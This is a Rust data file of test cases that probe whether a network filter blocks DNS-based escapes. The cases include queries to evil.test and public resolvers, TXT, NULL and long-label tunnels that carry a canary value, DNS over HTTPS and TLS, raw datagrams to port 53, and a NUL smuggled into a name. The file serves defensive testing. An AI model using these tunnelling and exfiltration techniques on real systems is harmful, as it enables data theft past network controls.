//! Queries, and what only looks like them. Only data.

use crate::attempt::{Attempt, BASE, Class, Control, Evidence};

const CLASS: Class = Class::Dns;

/// The rows.
pub(super) const ATTEMPTS: &[Attempt] = &[
    Attempt {
        name: "name-of-another-host",
        class: CLASS,
        what: "A query for a name that no rule has",
        call: &["{attempt}", "query", "name=evil.test"],
        wants: "code 0 answers 1",
        control: Control::Call(&["{attempt}", "query", "name=allowed.test"]),
        ..BASE
    },
    Attempt {
        name: "another-server",
        class: CLASS,
        what: "The same, asked of 8.8.8.8",
        call: &["{attempt}", "query", "name=evil.test", "server=8.8.8.8"],
        wants: "code 0 answers 1",
        control: Control::Call(&["{attempt}", "query", "name=allowed.test", "server=8.8.8.8"]),
        ..BASE
    },
    Attempt {
        name: "another-server-ipv6",
        class: CLASS,
        what: "The same, of a server over IPv6",
        call: &["{attempt}", "query", "name=evil.test", "kind=28", "server=2606:2800::66"],
        wants: "code 0 answers 1",
        control: Control::Call(&["{attempt}", "query", "name=allowed.test", "kind=28", "server=2606:2800::66"]),
        ..BASE
    },
    Attempt {
        name: "over-tcp",
        class: CLASS,
        what: "The same over TCP",
        call: &["{attempt}", "query", "name=evil.test", "over=tcp"],
        wants: "code 0 answers 1",
        control: Control::Call(&["{attempt}", "query", "name=allowed.test", "over=tcp"]),
        ..BASE
    },
    Attempt {
        name: "over-tcp-another-server",
        class: CLASS,
        what: "The same over TCP, of 8.8.8.8",
        call: &["{attempt}", "query", "name=evil.test", "over=tcp", "server=8.8.8.8"],
        wants: "code 0 answers 1",
        control: Control::Call(&["{attempt}", "query", "name=allowed.test", "over=tcp", "server=8.8.8.8"]),
        ..BASE
    },
    Attempt {
        name: "tunnel-txt",
        class: CLASS,
        what: "A tunnel of TXT queries below the allowed name",
        call: &["{attempt}", "query", "name={canary}.allowed.test", "kind=16"],
        wants: "code 0 answers 1",
        evidence: Evidence::Event(&["not_allowed", "bad_query"]),
        control: Control::Call(&["{attempt}", "query", "name=allowed.test"]),
        ..BASE
    },
    Attempt {
        name: "tunnel-null",
        class: CLASS,
        what: "A tunnel of NULL queries below the allowed name",
        call: &["{attempt}", "query", "name={canary}.allowed.test", "kind=10"],
        wants: "code 0 answers 1",
        evidence: Evidence::Event(&["not_allowed", "bad_query"]),
        control: Control::Call(&["{attempt}", "query", "name=allowed.test"]),
        ..BASE
    },
    Attempt {
        name: "tunnel-any",
        class: CLASS,
        what: "A tunnel of ANY queries below the allowed name",
        call: &["{attempt}", "query", "name={canary}.allowed.test", "kind=255"],
        wants: "code 0 answers 1",
        evidence: Evidence::Event(&["not_allowed", "bad_query"]),
        control: Control::Call(&["{attempt}", "query", "name=allowed.test"]),
        ..BASE
    },
    Attempt {
        name: "tunnel-mx",
        class: CLASS,
        what: "A tunnel of MX queries below the allowed name",
        call: &["{attempt}", "query", "name={canary}.allowed.test", "kind=15"],
        wants: "code 0 answers 1",
        evidence: Evidence::Event(&["not_allowed", "bad_query"]),
        control: Control::Call(&["{attempt}", "query", "name=allowed.test"]),
        ..BASE
    },
    Attempt {
        name: "tunnel-cname",
        class: CLASS,
        what: "A tunnel of CNAME queries below the allowed name",
        call: &["{attempt}", "query", "name={canary}.allowed.test", "kind=5"],
        wants: "code 0 answers 1",
        evidence: Evidence::Event(&["not_allowed", "bad_query"]),
        control: Control::Call(&["{attempt}", "query", "name=allowed.test"]),
        ..BASE
    },
    Attempt {
        name: "tunnel-long-labels",
        class: CLASS,
        what: "A tunnel of labels as long as they may be",
        call: &[
            "{attempt}",
            "query",
            "name={canary}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy.zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz.allowed.test",
        ],
        wants: "code 0 answers 1",
        evidence: Evidence::Event(&["not_allowed", "bad_query"]),
        control: Control::Call(&["{attempt}", "query", "name=allowed.test"]),
        ..BASE
    },
    Attempt {
        name: "tunnel-txt-below-a-suffix",
        class: CLASS,
        what: "TXT queries below an allowed suffix: nothing is forwarded",
        options: &["--allow", "*.wild.test"],
        call: &["{attempt}", "query", "name={canary}.wild.test", "kind=16"],
        wants: "code 0 answers 1",
        evidence: Evidence::Nothing,
        control: Control::Call(&["{attempt}", "query", "name=a.wild.test"]),
        ..BASE
    },
    Attempt {
        name: "tunnel-below-a-suffix",
        class: CLASS,
        what: "Queries for addresses below an allowed suffix: answered inside, nothing is forwarded",
        options: &["--allow", "*.wild.test"],
        call: &["{attempt}", "query", "name={canary}.wild.test"],
        wants: "address 93.184",
        evidence: Evidence::Nothing,
        control: Control::Call(&["{attempt}", "http", "to=a.wild.test", "path=/{canary}"]),
        control_wants: "delivered",
        ..BASE
    },
    Attempt {
        name: "tunnel-many-names",
        class: CLASS,
        what: "More names below an allowed suffix than may be asked for",
        options: &["--allow", "*.wild.test", "--network-limit", "names=5"],
        call: &["{attempt}", "ask_many", "count=12", "suffix={canary}.wild.test"],
        wants: "found 12 of 12",
        evidence: Evidence::Event(&["too_many_names"]),
        control: Control::Both(
            &["--allow", "*.wild.test", "--network-limit", "names=20"],
            &["{attempt}", "ask_many", "count=12", "suffix=wild.test"],
        ),
        ..BASE
    },
    Attempt {
        name: "reverse",
        class: CLASS,
        what: "A query for the name of an address",
        call: &["{attempt}", "query", "name=66.216.184.93.in-addr.arpa", "kind=12"],
        wants: "code 0 answers 1",
        evidence: Evidence::Nothing,
        control: Control::Call(&["{attempt}", "query", "name=allowed.test"]),
        ..BASE
    },
    Attempt {
        name: "dns-over-tls",
        class: CLASS,
        what: "DNS over TLS to a public server",
        call: &["{attempt}", "tls", "to=8.8.8.8", "port=853", "sni=dns.google", "path=/{canary}"],
        evidence: Evidence::Event(&["not_allowed", "port_not_allowed"]),
        control: Control::Options(&["--allow", "8.8.8.8:853"]),
        ..BASE
    },
    Attempt {
        name: "dns-over-https",
        class: CLASS,
        what: "DNS over HTTPS to a public server",
        call: &["{attempt}", "tls", "to=1.1.1.1", "sni=cloudflare-dns.com", "path=/dns-query?dns={canary}"],
        wants: "200 OK",
        control: Control::Options(&["--allow", "1.1.1.1"]),
        ..BASE
    },
    Attempt {
        name: "dns-as-a-channel",
        class: CLASS,
        what: "Bytes that are no DNS, to port 53 of a public server",
        call: &["{attempt}", "datagram", "to=8.8.8.8", "port=53", "send={canary}"],
        wants: "delivered",
        evidence: Evidence::Any(&["bad_query"], &["TimeoutError"]),
        control: Control::Call(&["{attempt}", "query", "name=allowed.test", "server=8.8.8.8"]),
        control_wants: "code 0 answers 1",
        ..BASE
    },
    Attempt {
        name: "dns-tcp-as-a-channel",
        class: CLASS,
        what: "HTTP to port 53 of a host",
        call: &["{attempt}", "http", "to=93.184.216.66", "port=53", "path=/{canary}"],
        evidence: Evidence::Nothing,
        control: Control::Call(&["{attempt}", "query", "name=allowed.test", "over=tcp", "server=93.184.216.66"]),
        control_wants: "code 0 answers 1",
        ..BASE
    },
    Attempt {
        name: "from-port-53",
        class: CLASS,
        what: "A datagram from port 53 to another port",
        call: &["{attempt}", "datagram", "to=8.8.8.8", "port=5000", "source=53", "send={canary}"],
        evidence: Evidence::Error(&["EADDRINUSE", "EACCES"]),
        control: Control::OutsideCall(&["{attempt}", "datagram", "to=8.8.8.8", "port=5000", "send={canary}"]),
        ..BASE
    },
    Attempt {
        name: "hosts-file-of-the-caller",
        class: CLASS,
        what: "A private address from /etc/hosts of the caller",
        options: &["--allow", "hosts.test"],
        call: &["{attempt}", "http", "to=hosts.test", "path=/{canary}"],
        evidence: Evidence::Event(&["address_not_public"]),
        control: Control::Both(
            &["--allow", "hostsgood.test"],
            &["{attempt}", "http", "to=hostsgood.test", "path=/{canary}"],
        ),
        ..BASE
    },
    Attempt {
        name: "nul-in-a-name",
        class: CLASS,
        what: "A NUL in a queried name",
        call: &["{attempt}", "query", "name=allowed.test\\x00.evil.test"],
        wants: "code 0 answers 1",
        evidence: Evidence::Event(&["not_allowed", "bad_name", "bad_query"]),
        control: Control::Call(&["{attempt}", "query", "name=allowed.test"]),
        ..BASE
    },
];
